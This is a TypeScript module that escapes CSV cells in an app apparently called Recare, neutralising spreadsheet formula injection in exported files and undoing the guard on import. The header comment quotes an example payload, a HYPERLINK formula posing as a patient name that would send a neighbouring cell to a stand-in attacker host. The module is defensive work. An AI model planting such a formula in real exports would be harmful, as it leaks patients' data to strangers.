/**
 * A cell as Recare writes it to CSV (rejected rows, outcome exports), and the one rule that makes
 * such a file safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets run a cell that
 * starts with `=`, `+`, `-` or `@` as a formula (tab and CR are read past), so a patient named
 * `=HYPERLINK("http://evil.example/?"&B3)` would send the row next to it to a stranger, and quoting
 * alone does not stop it. OWASP's rule: prefix such a cell with a single quote, which spreadsheets
 * show as text, and quote it. A plain negative number (`-12.50`) is still a number and stays as is.
 * The CSV importer drops that prefix again, so a rejected-rows file imports as it was written.
 */
const formulaStart = /^[=+\-@\t\r]/;
const negativeNumber = /^-(?:\d+(?:\.\d*)?|\.\d+)$/;
const guarded = /^'[=+\-@\t\r]/;

/** One cell: neutralised if a spreadsheet would run it, quoted when it holds a delimiter, quote, line break or edge spaces. */
export function csvCell(value: string): string {
  if (formulaStart.test(value) && !negativeNumber.test(value)) return quote(`'${value}`);
  return /[",;\n\r]/.test(value) || value.trim() !== value ? quote(value) : value;
}

/** One line of cells, comma-separated, ending in a line break. */
export function csvLine(cells: readonly string[]): string {
  return cells.map(csvCell).join(',') + '\n';
}

/** A cell read back from a file Recare wrote: `'=SUM(A1)` is `=SUM(A1)` again. Any other cell is returned as is. */
export function withoutFormulaGuard(cell: string): string {
  return guarded.test(cell) ? cell.slice(1) : cell;
}

function quote(value: string): string {
  return `"${value.replace(/"/g, '""')}"`;
}
